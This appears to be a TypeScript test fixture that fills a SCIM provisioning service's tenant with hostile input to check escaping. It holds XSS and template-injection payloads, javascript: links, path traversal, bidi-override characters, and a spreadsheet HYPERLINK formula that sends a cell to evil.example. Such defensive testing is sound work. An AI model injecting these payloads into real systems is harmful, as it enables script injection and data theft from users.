import { setTimeout as sleep } from 'node:timers/promises';
import { createManage } from './management.ts';
import type { Receiver } from './receiver.ts';
import { type TestServer, user } from './server.ts';
import { createTenant } from './tenant.ts';

/**
 * Returns a text that would run in a page, be an element of it, or rearrange what is beside it. It
 * begins with the name of its field, so that a page is seen to show it.
 */
export function hostile(field: string): string {
  return `${field}"'><img src=x onerror=alert(1)><script>alert(2)</script>{{7*7}}\u202Efdp`;
}

/** Returns the same for a name that is looked up, which must not rearrange what is beside it. */
export function hostileName(field: string): string {
  return hostile(field).replace('\u202E', '');
}

/** A link that would run a script. */
export const scriptLink = 'javascript:alert(3)//\u202E';

const long = `<b>${'A'.repeat(10_000)}`;
const schema = 'urn:example:params:scim:schemas:extension:hostile:2.0:User';

/** What identity providers and customers can set, with a hostile text in each place. */
export interface HostileTenant {
  /** Values of the parameters of routes. */
  readonly parameters: Readonly<Record<string, string>>;
  /** Paths of the portal: with the brand, and of the link when it is finished. */
  readonly setup: string;
}

/** An SVG that a browser shows, with all that the server lets through. */
const logo = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>rect{fill:red}</style><title>&lt;script></title><rect width="9" height="9"/></svg>`;

/** Fills the tenant `evil`. The receiver answers deliveries with hostile text. */
export async function createHostileTenant(
  server: TestServer,
  receiver: Receiver,
): Promise<HostileTenant> {
  receiver.answer = (_, response) => void response.writeHead(422).end(hostile('answer'));
  const { call, connection, manage, at, tenant } = await createTenant(server, { tenant: 'evil' });
  const done = async (method: string, path: string, body: object) => {
    const { status, text, json } = await manage(method, path, body);
    if (status >= 300) throw new Error(`${method} ${path}: ${status} ${text}`);
    return json;
  };
  await done('PATCH', '/tenants/evil', {
    name: hostile('tenant'),
    policy: {
      requestLog: 'full',
      roles: {
        mode: 'union',
        rules: [{ displayName: hostile('group'), roles: [hostile('role')] }],
      },
    },
  });
  await done('PUT', at('/schemas'), definitions);
  await done('PATCH', at(`/connections/${connection}`), { name: hostile('connection') });
  await done('POST', at(`/connections/${connection}/credentials`), {
    kind: 'token',
    name: hostile('credential'),
  });
  const endpoint = await done('POST', at('/endpoints'), {
    name: hostile('endpoint'),
    url: `${receiver.url}?${encodeURIComponent(hostile('url'))}`,
  });
  const link = await done('POST', at(`/connections/${connection}/setup-links`), {
    roles: [hostile('role')],
    brand: {
      name: hostile('b').slice(0, 80),
      color: '#aa3311',
      logo: `data:image/svg+xml;base64,${Buffer.from(logo).toString('base64')}`,
    },
  });
  await createManage(server.running.url)('POST', '/administrators', {
    email: 'mallory@example.com',
    name: hostile('administrator').slice(0, 100),
    role: 'read-only',
  });
  const people = [];
  for (const body of hostileUsers()) people.push(await call('POST', '/Users', { body }));
  const bad = people.filter(({ status }) => status !== 201);
  if (bad.length > 0) throw new Error(bad.map(({ text }) => text).join('\n'));
  const group = await call('POST', '/Groups', {
    body: {
      schemas: ['urn:ietf:params:scim:schemas:core:2.0:Group'],
      displayName: hostile('group'),
      externalId: hostile('externalId'),
      members: people.map(({ json: { id } }) => ({ value: id, display: hostile('display') })),
    },
  });
  if (group.status !== 201) throw new Error(group.text);
  await refuse(server, call);
  const log = await logged(manage, at('/requests?limit=100'));
  return {
    parameters: {
      tenant,
      connection,
      group: group.json.id,
      person: encodeURIComponent(hostileName('userName')),
      request: log.find(({ status }) => status === 409)!.id,
      endpoint: endpoint.id,
    },
    setup: new URL(link.url).pathname,
  };
}

const definitions = {
  schemas: [
    {
      id: schema,
      name: hostile('schema'),
      description: hostile('schemaDescription'),
      attributes: [
        { name: 'note', type: 'string', description: hostile('attributeDescription') },
        { name: 'site', type: 'reference', referenceTypes: ['external'] },
      ],
    },
  ],
  extensions: [{ schema, resourceType: 'User', required: false }],
};

function hostileUsers(): readonly object[] {
  const everywhere = user({
    schemas: ['urn:ietf:params:scim:schemas:core:2.0:User', schema],
    userName: hostileName('userName'),
    displayName: hostile('displayName'),
    externalId: hostile('externalId'),
    nickName: hostile('nickName'),
    title: hostile('title'),
    locale: 'en-US',
    profileUrl: scriptLink,
    photos: [{ value: scriptLink, type: 'photo' }],
    emails: [{ value: hostile('email'), type: 'work', primary: true }],
    phoneNumbers: [{ value: hostile('phone'), type: hostile('type') }],
    addresses: [{ formatted: hostile('address'), locality: hostile('locality') }],
    name: { givenName: hostile('givenName'), familyName: hostile('familyName') },
    [schema]: { note: hostile('note'), site: scriptLink },
  });
  const names = [
    'javascript:alert(3)',
    'data:text/html,<script>alert(4)</script>',
    '=HYPERLINK("https://evil.example?"&A1)',
    'עברית (7)',
    '${alert(6)}{{constructor.constructor("alert(7)")()}}<%= 7 %>',
    '../../../etc/passwd',
    '__proto__',
  ];
  return [
    everywhere,
    ...names.map((name) => user({ userName: name, displayName: name })),
    user({ userName: 'turned', displayName: '\u2067\u202E\u2069\u2069 end of isolates' }),
    user({ userName: 'long', displayName: long.slice(0, 1_000), title: long }),
  ];
}

/** Sends what is refused, so that the request log has it: paths, filters, agents and tokens. */
async function refuse(
  server: TestServer,
  call: Awaited<ReturnType<typeof createTenant>>['call'],
): Promise<void> {
  const agent = { 'User-Agent': '<img src=x onerror=alert(8)>' };
  await call('POST', '/Users', {
    body: user({ userName: hostileName('userName'), displayName: hostile('displayName') }),
    headers: agent,
  });
  // Characters that are accepted nowhere are in the log of what was refused.
  for (const refused of ['NUL\u0000<img src=x onerror=alert(5)>', '\u202Efdp'])
    await call('POST', '/Users', { body: user({ userName: refused, displayName: refused }) });
  const filter = encodeURIComponent(`${hostile('filter')} eq "${hostile('value')}"`);
  await call('GET', `/Users?filter=${filter}`, { headers: agent });
  await call('GET', `/Users/${encodeURIComponent(hostile('id'))}`, { headers: agent });
  await fetch(`${server.running.url}/t/evil/scim/v2/Users`, {
    headers: { ...agent, Authorization: 'Bearer "><img/src=x/onerror=alert(9)>' },
  });
}

interface Logged {
  readonly id: string;
  readonly status: number;
}

/** The request log is written in batches. */
async function logged(
  manage: ReturnType<typeof createManage>,
  path: string,
): Promise<readonly Logged[]> {
  let statuses: readonly number[] = [];
  for (let attempt = 0; attempt < 200; attempt += 1) {
    const { items } = (await manage('GET', path)).json as { readonly items: readonly Logged[] };
    statuses = items.map(({ status }) => status);
    if ([400, 401, 409].every((status) => statuses.includes(status))) return items;
    await sleep(50);
  }
  throw new Error(`the request log has only ${statuses.join(', ')}`);
}
